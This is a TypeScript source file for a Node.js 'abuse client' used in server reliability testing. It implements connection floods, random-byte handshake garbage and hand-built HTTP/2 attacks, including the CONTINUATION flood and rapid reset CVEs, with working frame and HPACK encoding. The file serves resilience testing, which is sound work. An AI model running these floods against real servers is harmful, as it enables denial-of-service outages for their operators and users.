// A hostile client for the reliability soak: it attacks a server port with raw bytes, as a
// connection flood (hold), as random bytes where a TLS ClientHello or the HTTP/2 preface belongs
// (garbage), or as hand-made HTTP/2 frames (h2: CONTINUATION flood, SETTINGS and PING floods,
// oversized header blocks, rapid reset, zero windows). Progress goes to stderr; ONE JSON line with
// what it did and what the server answered goes to stdout at the end. Every loop is bounded by
// counts and by durationMs; every socket is destroyed before the process exits 0 (2 with the
// usage for a bad spec). It runs as an unprivileged uid that cannot read the rest of the
// checkout, so it imports nothing but node: modules. The caller raises `ulimit -n` for big floods.
//   node abuse-client.ts '<json spec>'      (the spec and result are described in USAGE below)
import { randomBytes } from 'node:crypto'
import type { EventEmitter } from 'node:events'
import { readFileSync } from 'node:fs'
import { connect as tcpConnect, type Socket } from 'node:net'
import { connect as tlsConnect, createSecureContext, type ConnectionOptions, type SecureContext, type TLSSocket } from 'node:tls'

const USAGE = `usage: node abuse-client.ts '<json spec>'
common: host, port, mode; durationMs (the whole run, default 10000, at most 900000); connections
  (parallel connections or workers, default 1); timeoutMs (a connect or handshake, a wait; default
  5000); tls {cert, key, chain?, servername?} (PEM files: every connection is then TLS 1.3 with
  ALPN h2 and that client certificate, the server unchecked; without tls, plain TCP)
modes (defaults in parentheses; + the mode's own result fields):
  hold     open connections, at most batch(500) connecting at once, write send (a string) on each
           if given, hold them all holdMs(1000) from the last attempt, then destroy them
           + opened, connectFailures {code: n}, closedByServer, bytesReceived,
             closeMs {min, median, max} (from connect to the server's close), heldAtEnd
  garbage  connections workers, each at most maxAttempts(1000000) times: connect, write bytes(4096)
           random bytes (plain TCP with tlsRecord: true: as a TLS handshake record "16 03 01 len";
           with tls: after the handshake, where the HTTP/2 preface belongs), wait timeoutMs for
           the server to close, destroy
           + attempts, closedByServer, timedOut, cutShort (waits the run's end cut before
             timeoutMs and before a close), handshakeFailures, closeMs {median, max}
  h2       connections workers, each at most maxFrames(10000000) frames: connect (h2c with prior
           knowledge, or TLS), client preface + SETTINGS, then the attack until the server closes;
           again if reconnect(true). The server's SETTINGS is ACKed once if ackSettings(true),
           nothing else is answered; read(true): false reads nothing until the attack ends. attack:
    continuation  HEADERS on stream 1 without END_HEADERS, then CONTINUATION frames of
                  frameBytes(16384) literal headers without end (CVE-2024-27316)
    settings      SETTINGS frames toggling INITIAL_WINDOW_SIZE, back to back
    ping          PING frames, back to back
    big-headers   requests on streams 1, 3, ... whose header block is headerBytes(1048576) long,
                  in HEADERS + CONTINUATION frames of frameBytes
    rapid-reset   HEADERS + RST_STREAM(CANCEL) on streams 1, 3, ..., back to back (CVE-2023-44487)
    window-zero   INITIAL_WINDOW_SIZE 0 in our SETTINGS, streams(1) GETs, then hold the connection
    requests: method(GET; CONNECT sends only :method and :authority), authority(host:port)
           + attack, connections, connectFailures {code: n}, framesSent, bytesSent (handed to the
             socket), drainWaits, closedByServer, goaways {CODE: n}, resets {CODE: n},
             responses {status|other: n}, msToClose {median, max} (from the attack's first frame)
result (one JSON line): {mode, ...the mode's fields, errors {code: n}, ms}`

const MODES = ['hold', 'garbage', 'h2'] as const
const ATTACKS = ['continuation', 'settings', 'ping', 'big-headers', 'rapid-reset', 'window-zero'] as const
type Mode = (typeof MODES)[number]
type Attack = (typeof ATTACKS)[number]

interface Spec {
  host: string; port: number; mode: Mode; durationMs?: number; connections?: number; timeoutMs?: number
  tls?: { cert: string; key: string; chain?: string; servername?: string }
  batch?: number; send?: string; holdMs?: number // hold
  bytes?: number; tlsRecord?: boolean; maxAttempts?: number // garbage
  attack?: Attack; reconnect?: boolean; maxFrames?: number; ackSettings?: boolean; read?: boolean // h2
  frameBytes?: number; headerBytes?: number; streams?: number; method?: string; authority?: string
}

/** The numeric fields and their ranges (integers). */
const NUMBERS: Record<string, readonly [number, number]> = {
  port: [1, 65535], durationMs: [1, 900_000], connections: [1, 1_000_000], timeoutMs: [1, 900_000],
  batch: [1, 100_000], holdMs: [0, 900_000], bytes: [1, 16 << 20], maxAttempts: [1, 1e9], maxFrames: [1, 1e12],
  frameBytes: [1, 16384], headerBytes: [1, 16 << 20], streams: [1, 100_000],
}
const STRINGS = ['send', 'method', 'authority']
const BOOLEANS = ['tlsRecord', 'reconnect', 'ackSettings', 'read']

// ---- the spec ----

function usage(problem: string): never {
  process.stderr.write(`abuse-client: ${problem}\n${USAGE}\n`)
  process.exit(2)
}

function parseSpec(arg: string | undefined): { spec: Spec; context: SecureContext | undefined } {
  if (!arg) usage('no spec')
  let spec: Spec
  try {
    spec = JSON.parse(arg) as Spec
  } catch (err) {
    usage(`the spec is not JSON: ${(err as Error).message}`)
  }
  if (typeof spec !== 'object' || spec === null || Array.isArray(spec)) usage('the spec is not a JSON object')
  const fields = spec as unknown as Record<string, unknown>
  if (typeof spec.host !== 'string' || !spec.host || spec.port === undefined) usage('host and port are required')
  if (!MODES.includes(spec.mode)) usage(`mode must be one of ${MODES.join(', ')}`)
  if (spec.mode === 'h2' && !ATTACKS.includes(spec.attack as Attack)) usage(`attack must be one of ${ATTACKS.join(', ')}`)
  for (const [name, [min, max]] of Object.entries(NUMBERS)) {
    const v = fields[name]
    if (v !== undefined && (typeof v !== 'number' || !Number.isInteger(v) || v < min || v > max)) usage(`${name} must be an integer in [${min}, ${max}]`)
  }
  for (const name of STRINGS) if (fields[name] !== undefined && typeof fields[name] !== 'string') usage(`${name} must be a string`)
  for (const name of BOOLEANS) if (fields[name] !== undefined && typeof fields[name] !== 'boolean') usage(`${name} must be true or false`)
  if (spec.tls === undefined) return { spec, context: undefined }
  const t = spec.tls as unknown as Record<string, unknown>
  if (typeof t !== 'object' || t === null || typeof t.cert !== 'string' || typeof t.key !== 'string') usage('tls needs cert and key (PEM file paths)')
  if ((t.chain !== undefined && typeof t.chain !== 'string') || (t.servername !== undefined && typeof t.servername !== 'string')) usage('tls chain and servername are strings')
  try {
    const pem = (file: string | undefined): string => (file ? readFileSync(file, 'utf8') : '')
    return { spec, context: createSecureContext({ cert: pem(spec.tls.cert) + pem(spec.tls.chain), key: pem(spec.tls.key), minVersion: 'TLSv1.3' }) }
  } catch (err) {
    usage(`tls: ${(err as Error).message}`)
  }
}

const { spec, context } = parseSpec(process.argv[2])
const started = Date.now()
const deadline = started + (spec.durationMs ?? 10_000)
const timeoutMs = spec.timeoutMs ?? 5000
const connections = spec.connections ?? 1

// ---- shared counting and bookkeeping ----

const bump = (m: Record<string, number>, key: string | number): void => { m[key] = (m[key] ?? 0) + 1 }
const errors: Record<string, number> = {}
const errorCode = (err: unknown): string => (err as NodeJS.ErrnoException).code ?? (err as Error).message
const progress = (msg: string): void => { process.stderr.write(`abuse-client ${spec.mode}${spec.attack ? ` ${spec.attack}` : ''}: ${msg}\n`) }
/** The mode's result so far: what the backstop prints if the mode does not end. */
let current: Record<string, unknown> = {}

// These helpers have the shape of hbone-peer.ts's: a workload program cannot import a sibling
// file (scripts/netns/readable.ts mirrors only the file its argv names).
/** Time left in the run, at most `ms`. */
const left = (ms = Infinity): number => Math.max(0, Math.min(ms, deadline - Date.now()))
const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, left(ms)))
const range = (n: number): number[] => Array.from({ length: n }, (_, i) => i)

/** The first of `events` on `e`, or 'timeout' after `ms`. */
function first(e: EventEmitter, events: readonly string[], ms: number): Promise<{ event: string; args: unknown[] }> {
  return new Promise((resolve) => {
    const handlers = events.map((name) => [name, (...args: unknown[]) => done(name, args)] as const)
    const timer = setTimeout(() => done('timeout', []), ms)
    function done(event: string, args: unknown[]): void {
      clearTimeout(timer)
      for (const [name, f] of handlers) e.off(name, f)
      resolve({ event, args })
    }
    for (const [name, f] of handlers) e.on(name, f)
  })
}

/** Percentiles of a list of milliseconds (q in [0, 1]); null for none. */
function percentile(values: number[], q: number): number | null {
  const sorted = [...values].sort((a, b) => a - b)
  return sorted.length ? sorted[Math.min(sorted.length - 1, Math.floor(q * sorted.length))]! : null
}

// ---- connections ----

/** Every socket still open, destroyed before exiting. */
const live = new Set<Socket>()
/** Connections the server closed (or reset), in all. */
let serverCloses = 0

interface Conn {
  readonly socket: Socket
  readonly connectedAt: number
  ours: boolean // we are closing it: what follows is not the server's doing
  closedAt: number | undefined // when the server closed (or reset) it
  bytesIn: number
}

type Opened = Conn | { failure: string; handshake: boolean }

function tlsOptions(): ConnectionOptions {
  return {
    host: spec.host, port: spec.port, secureContext: context, ALPNProtocols: ['h2'], minVersion: 'TLSv1.3', maxVersion: 'TLSv1.3',
    ...(spec.tls?.servername ? { servername: spec.tls.servername } : {}),
    // An attacker does not care who the server is.
    rejectUnauthorized: false, checkServerIdentity: () => undefined,
  }
}

/** TCP, or TLS 1.3 (ALPN h2 for mode h2) with the spec's certificate; a failure says why. onData reads from the start. */
async function open(onData?: (c: Conn) => (chunk: Buffer) => void): Promise<Opened> {
  const socket: Socket = spec.tls ? tlsConnect(tlsOptions()) : tcpConnect({ host: spec.host, port: spec.port })
  live.add(socket)
  socket.on('error', () => undefined)
  socket.once('close', () => live.delete(socket))
  let tcpUp = false
  socket.once('connect', () => { tcpUp = true })
  const up = spec.tls ? 'secureConnect' : 'connect'
  const r = await first(socket, [up, 'error', 'close'], timeoutMs)
  const failure = r.event === up ? (spec.tls && spec.mode === 'h2' && (socket as TLSSocket).alpnProtocol !== 'h2' ? 'ALPN' : undefined)
    : r.event === 'error' ? errorCode(r.args[0]) : r.event === 'timeout' ? 'ETIMEDOUT' : 'closed'
  if (failure) {
    socket.destroy()
    return { failure, handshake: spec.tls !== undefined && tcpUp }
  }
  const c: Conn = { socket, connectedAt: Date.now(), ours: false, closedAt: undefined, bytesIn: 0 }
  socket.on('data', (chunk: Buffer) => { c.bytesIn += chunk.length })
  if (onData) socket.on('data', onData(c))
  socket.on('error', (err) => { if (!c.ours) bump(errors, errorCode(err)) })
  socket.once('close', () => {
    if (c.ours) return
    c.closedAt = Date.now()
    serverCloses++
  })
  return c
}

function drop(c: Conn): void {
  c.ours = true
  c.socket.destroy()
}

// ---- hold: a connection flood ----

async function hold(): Promise<object> {
  const out = { opened: 0, connectFailures: {} as Record<string, number> }
  current = out
  const held: Conn[] = []
  const send = spec.send === undefined ? undefined : Buffer.from(spec.send)
  let next = 0
  let lastAttempt = Date.now()
  const worker = async (): Promise<void> => {
    while (next < connections && left() > 0) {
      next++
      lastAttempt = Date.now()
      const c = await open()
      if ('failure' in c) bump(out.connectFailures, c.failure)
      else {
        held.push(c)
        out.opened++
        if (send) c.socket.write(send)
      }
    }
  }
  await Promise.all(range(Math.min(spec.batch ?? 500, connections)).map(worker))
  progress(`${out.opened} of ${next} attempts connected; holding`)
  const holdUntil = lastAttempt + (spec.holdMs ?? 1000)
  while (serverCloses < held.length && Date.now() < holdUntil && left() > 0) await sleep(Math.min(50, holdUntil - Date.now()))
  const closeMs = held.filter((c) => c.closedAt !== undefined).map((c) => c.closedAt! - c.connectedAt)
  const bytesReceived = held.reduce((sum, c) => sum + c.bytesIn, 0)
  for (const c of held) drop(c)
  return {
    ...out, closedByServer: closeMs.length, bytesReceived, heldAtEnd: held.length - closeMs.length,
    closeMs: { min: percentile(closeMs, 0), median: percentile(closeMs, 0.5), max: percentile(closeMs, 1) },
  }
}

// ---- garbage: random bytes where a handshake or a preface belongs ----

function garbageBytes(): Buffer {
  const n = spec.bytes ?? 4096
  const body = randomBytes(n)
  if (spec.tls || !spec.tlsRecord) return body
  // A handshake record (22, TLS 1.0) holding a ClientHello (1) with its 24-bit length, then noise.
  if (n >= 4) body.writeUInt32BE(0x01000000 | (n - 4), 0)
  return Buffer.concat([Buffer.from([0x16, 0x03, 0x01, Math.min(n, 0xffff) >> 8, Math.min(n, 0xffff) & 0xff]), body])
}

async function garbage(): Promise<object> {
  const out = { attempts: 0, closedByServer: 0, timedOut: 0, cutShort: 0, handshakeFailures: 0 }
  current = out
  const closeMs: number[] = []
  const worker = async (): Promise<void> => {
    for (let i = 0; i < (spec.maxAttempts ?? 1_000_000) && left() > 0; i++) {
      out.attempts++
      const c = await open()
      if ('failure' in c) {
        if (c.handshake) out.handshakeFailures++
        bump(errors, c.failure)
        await sleep(50)
        continue
      }
      const at = Date.now()
      c.socket.write(garbageBytes())
      await first(c.socket, ['close'], left(timeoutMs))
      if (c.closedAt !== undefined) {
        out.closedByServer++
        closeMs.push(c.closedAt - at)
      } else if (Date.now() - at >= timeoutMs) out.timedOut++
      // Usually only the last attempt; but a timer is armed from the event loop's cached clock
      // and can fire a little before the deadline by Date.now(), so a loaded run can start (and
      // cut) one more.
      else out.cutShort++
      drop(c)
    }
  }
  await Promise.all(range(connections).map(worker))
  return { ...out, closeMs: { median: percentile(closeMs, 0.5), max: percentile(closeMs, 1) } }
}

// ---- h2: hand-made HTTP/2 frames ----

// RFC 9113 §7 error codes, by value.
const CODES = ['NO_ERROR', 'PROTOCOL_ERROR', 'INTERNAL_ERROR', 'FLOW_CONTROL_ERROR', 'SETTINGS_TIMEOUT', 'STREAM_CLOSED', 'FRAME_SIZE_ERROR',
  'REFUSED_STREAM', 'CANCEL', 'COMPRESSION_ERROR', 'CONNECT_ERROR', 'ENHANCE_YOUR_CALM', 'INADEQUATE_SECURITY', 'HTTP_1_1_REQUIRED']
const codeName = (code: number): string => CODES[code] ?? `0x${code.toString(16)}`
/** :status as an indexed HPACK static-table entry. */
const STATUS: Record<number, string> = { 0x88: '200', 0x89: '204', 0x8a: '206', 0x8b: '304', 0x8c: '400', 0x8d: '404', 0x8e: '500' }
const T = { HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7, CONTINUATION: 9 } as const
const [END_STREAM, END_HEADERS, PADDED, PRIORITY] = [0x1, 0x4, 0x8, 0x20]
const MAX_STREAM = 0x7fffffff
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1')
const MAX_FRAME = Math.min(spec.frameBytes ?? 16384, 16384)

function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const f = Buffer.allocUnsafe(9 + payload.length)
  f.writeUIntBE(payload.length, 0, 3)
  f[3] = type
  f[4] = flags
  f.writeUInt32BE(stream & MAX_STREAM, 5)
  payload.copy(f, 9)
  return f
}

/** An HPACK integer with an n-bit prefix (RFC 7541 §5.1) after the `high` bits of its first byte. */
function hpackInt(value: number, bits: number, high: number): number[] {
  const max = (1 << bits) - 1
  if (value < max) return [high | value]
  const bytes = [high | max]
  for (value -= max; value >= 128; value = Math.floor(value / 128)) bytes.push((value % 128) | 0x80)
  bytes.push(value)
  return bytes
}

const hpackString = (s: string): Buffer => { const b = Buffer.from(s, 'latin1'); return Buffer.concat([Buffer.from(hpackInt(b.length, 7, 0)), b]) }

/** A literal header field without indexing: the name a static-table index or a new name. */
function literal(name: number | string, value: string): Buffer {
  const head = typeof name === 'number' ? Buffer.from(hpackInt(name, 4, 0)) : Buffer.concat([Buffer.from([0]), hpackString(name)])
  return Buffer.concat([head, hpackString(value)])
}

const authority = spec.authority ?? `${spec.host.includes(':') ? `[${spec.host}]` : spec.host}:${spec.port}`
const method = spec.method ?? 'GET'
/** A request's header block: :method, :scheme, :path /, :authority (CONNECT: :method, :authority). */
const requestBlock = method === 'CONNECT' ? Buffer.concat([literal(2, 'CONNECT'), literal(1, authority)])
  : Buffer.concat([method === 'GET' ? Buffer.from([0x82]) : method === 'POST' ? Buffer.from([0x83]) : literal(2, method),
    Buffer.from([spec.tls ? 0x87 : 0x86, 0x84]), literal(1, authority)])
const requestEnd = method === 'CONNECT' ? 0 : END_STREAM

/** Whole literal headers x-a0, x-a1, ... of at least `bytes` bytes. */
function filler(bytes: number): Buffer {
  const parts: Buffer[] = []
  for (let i = 0, n = 0; n < bytes; i++) {
    parts.push(literal(`x-a${i}`, 'v'.repeat(60)))
    n += parts[parts.length - 1]!.length
  }
  return Buffer.concat(parts)
}

/** The same frame `count` times back to back. */
const repeated = (count: number, make: (i: number) => Buffer): Buffer => Buffer.concat(range(count).map(make))

/** The h2 mode's counters. */
const h2out = {
  attack: spec.attack, connections: 0, connectFailures: {} as Record<string, number>, framesSent: 0, bytesSent: 0, drainWaits: 0,
  closedByServer: 0, goaways: {} as Record<string, number>, resets: {} as Record<string, number>, responses: {} as Record<string, number>,
}

/** The next frames on a connection (at most `max` of them), or undefined when it has no more. */
type Next = (max: number) => { chunk: Buffer; frames: number } | undefined

// What the run's attack sends, built once.
const EMPTY = Buffer.alloc(0)
/** SETTINGS_INITIAL_WINDOW_SIZE = v. */
const windowSetting = (v: number): Buffer => Buffer.from([0, 4, v >>> 24, (v >>> 16) & 0xff, (v >>> 8) & 0xff, v & 0xff])
const PINGS = spec.attack === 'ping' ? repeated(1024, (i) => frame(T.PING, 0, 0, Buffer.from([0, 0, 0, 0, 0, 0, i >> 8, i & 0xff]))) : EMPTY
const SETTINGS = spec.attack === 'settings' ? repeated(1024, (i) => frame(T.SETTINGS, 0, 0, windowSetting(i % 2 ? 65534 : 65535))) : EMPTY
// Cut anywhere, an endless repetition of whole headers is still a valid header block fragment.
const PATTERN = spec.attack === 'continuation' ? filler(MAX_FRAME) : EMPTY
const PATTERN2 = Buffer.concat([PATTERN, PATTERN])
const BLOCK = spec.attack === 'big-headers' ? Buffer.concat([requestBlock, filler((spec.headerBytes ?? 1 << 20) - requestBlock.length)]) : EMPTY
const BLOCK_PARTS = range(Math.ceil(BLOCK.length / MAX_FRAME)).map((i) => BLOCK.subarray(i * MAX_FRAME, (i + 1) * MAX_FRAME))
const CANCEL = Buffer.from([0, 0, 0, 8])

/** A new connection's frames for the run's attack. */
function attackFrames(): Next {
  let stream = 1 // the next stream id
  let at = 0 // where the next CONTINUATION starts in PATTERN
  const cycle = (chunk: Buffer, size: number): Next => (max) => ({ chunk: chunk.subarray(0, Math.min(max, 1024) * size), frames: Math.min(max, 1024) })
  const request = (id: number): Buffer => frame(T.HEADERS, END_HEADERS | requestEnd, id, requestBlock)
  switch (spec.attack!) {
    case 'ping': return cycle(PINGS, 17)
    case 'settings': return cycle(SETTINGS, 15)
    case 'continuation': return (max) => {
      const head = stream === 1 ? [frame(T.HEADERS, requestEnd, 1, requestBlock)] : []
      stream = 3
      const rest = range(Math.min(4, max - head.length)).map(() => {
        const f = frame(T.CONTINUATION, 0, 1, PATTERN2.subarray(at, at + MAX_FRAME))
        at = (at + MAX_FRAME) % PATTERN.length
        return f
      })
      return { chunk: Buffer.concat([...head, ...rest]), frames: head.length + rest.length }
    }
    case 'big-headers': return (max) => {
      if (max < BLOCK_PARTS.length || stream > MAX_STREAM) return undefined
      const id = stream
      stream += 2
      const last = BLOCK_PARTS.length - 1
      const frames = BLOCK_PARTS.map((p, i) => frame(i ? T.CONTINUATION : T.HEADERS, (i ? 0 : requestEnd) | (i === last ? END_HEADERS : 0), id, p))
      return { chunk: Buffer.concat(frames), frames: frames.length }
    }
    case 'rapid-reset': return (max) => {
      const n = Math.min(256, Math.floor(max / 2), Math.floor((MAX_STREAM - stream) / 2) + 1)
      if (n <= 0) return undefined
      const chunk = repeated(n, (i) => Buffer.concat([request(stream + 2 * i), frame(T.RST_STREAM, 0, stream + 2 * i, CANCEL)]))
      stream += 2 * n
      return { chunk, frames: 2 * n }
    }
    case 'window-zero': return (max) => {
      if (stream > 1) return undefined
      const n = Math.min(spec.streams ?? 1, max)
      stream += 2 * n
      return { chunk: repeated(n, (i) => request(1 + 2 * i)), frames: n }
    }
  }
}

/** Counts what the server sent; ACKs its first SETTINGS (if ackSettings). */
function reader(c: Conn): (chunk: Buffer) => void {
  let buf: Buffer = Buffer.alloc(0)
  let acked = spec.ackSettings === false
  let bad = false
  const onFrame = (type: number, flags: number, p: Buffer): void => {
    if (type === T.GOAWAY && p.length >= 8) bump(h2out.goaways, codeName(p.readUInt32BE(4)))
    else if (type === T.RST_STREAM && p.length >= 4) bump(h2out.resets, codeName(p.readUInt32BE(0)))
    else if (type === T.HEADERS) {
      let i = (flags & PADDED ? 1 : 0) + (flags & PRIORITY ? 5 : 0)
      // Skip dynamic table size updates (001xxxxx, maybe with continuation bytes).
      while (i < p.length && (p[i]! & 0xe0) === 0x20) {
        if ((p[i++]! & 0x1f) === 0x1f) while (i < p.length && p[i++]! & 0x80) continue // the integer's continuation bytes
      }
      bump(h2out.responses, STATUS[p[i] ?? 0] ?? 'other')
    } else if (type === T.SETTINGS && !(flags & 1) && !acked) {
      acked = true
      h2out.framesSent++
      h2out.bytesSent += 9
      c.socket.write(frame(T.SETTINGS, 1, 0))
    }
  }
  return (chunk) => {
    if (bad) return
    buf = buf.length ? Buffer.concat([buf, chunk]) : chunk
    let at = 0
    while (buf.length - at >= 9) {
      const len = buf.readUIntBE(at, 3)
      // We never allow more than 16384 (SETTINGS_MAX_FRAME_SIZE's default): not HTTP/2.
      if (len > 16384) { bad = true; bump(errors, 'not HTTP/2'); return }
      if (buf.length - at < 9 + len) break
      onFrame(buf[at + 3]!, buf[at + 4]!, buf.subarray(at + 9, at + 9 + len))
      at += 9 + len
    }
    buf = buf.subarray(at)
  }
}

async function write(c: Conn, chunk: Buffer, frames: number): Promise<void> {
  h2out.framesSent += frames
  h2out.bytesSent += chunk.length
  // Yield to reads and timers between writes; wait for 'drain' when the socket is full.
  if (c.socket.write(chunk)) await new Promise<void>((r) => setImmediate(r))
  else { h2out.drainWaits++; await first(c.socket, ['drain', 'close'], left()) }
}

/** One connection: preface, SETTINGS, the attack until the server closes or the run ends. */
async function attackConnection(c: Conn, budget: { frames: number }, msToClose: number[]): Promise<void> {
  const next = attackFrames()
  const holdAfter = spec.attack === 'window-zero'
  if (spec.read === false) c.socket.pause()
  const usable = (): boolean => c.closedAt === undefined && !c.socket.destroyed && left() > 0
  budget.frames--
  await write(c, Buffer.concat([PREFACE, frame(T.SETTINGS, 0, 0, holdAfter ? windowSetting(0) : EMPTY)]), 1)
  let attackStart: number | undefined
  while (usable() && budget.frames > 0) {
    const batch = next(budget.frames)
    if (!batch) break
    attackStart ??= Date.now()
    budget.frames -= batch.frames
    await write(c, batch.chunk, batch.frames)
  }
  c.socket.resume()
  // A write error (EPIPE, ECONNRESET) destroyed it: its 'close' is on the way.
  if (c.socket.destroyed && c.closedAt === undefined) await first(c.socket, ['close'], 1000)
  if (usable() && (holdAfter || spec.read === false)) await first(c.socket, ['close'], left(holdAfter ? Infinity : Math.min(timeoutMs, 1000)))
  if (c.closedAt === undefined) return
  h2out.closedByServer++
  msToClose.push(c.closedAt - (attackStart ?? c.connectedAt))
}

async function h2(): Promise<object> {
  current = h2out
  const msToClose: number[] = []
  const worker = async (): Promise<void> => {
    const budget = { frames: spec.maxFrames ?? 10_000_000 }
    do {
      const c = await open(reader)
      if ('failure' in c) { bump(h2out.connectFailures, c.failure); await sleep(50); continue }
      h2out.connections++
      await attackConnection(c, budget, msToClose)
      drop(c)
    } while (spec.reconnect !== false && left() > 0 && budget.frames > 0)
  }
  await Promise.all(range(connections).map(worker))
  return { ...h2out, msToClose: { median: percentile(msToClose, 0.5), max: percentile(msToClose, 1) } }
}

// ---- run ----

const RUN: Record<Mode, () => Promise<object>> = { hold, garbage, h2 }

let finished = false
function finish(result: object): void {
  if (finished) return
  finished = true
  for (const socket of live) socket.destroy()
  process.stdout.write(`${JSON.stringify({ mode: spec.mode, ...result, errors, ms: Date.now() - started })}\n`, () => process.exit(0))
}

// The modes end by the deadline (plus a connect's timeout); this is the backstop if one does not.
setTimeout(() => finish({ ...current, backstop: true }), left() + timeoutMs + 5000)
setInterval(() => progress(JSON.stringify(current)), 5000).unref()
progress(`${spec.host}:${spec.port}${spec.tls ? ' over TLS' : ''}, ${connections} connection(s), ${deadline - started} ms`)
RUN[spec.mode]().then(finish, (err: unknown) => {
  bump(errors, errorCode(err))
  progress(`failed: ${(err as Error).stack ?? String(err)}`)
  finish({ ...current, failed: true })
})
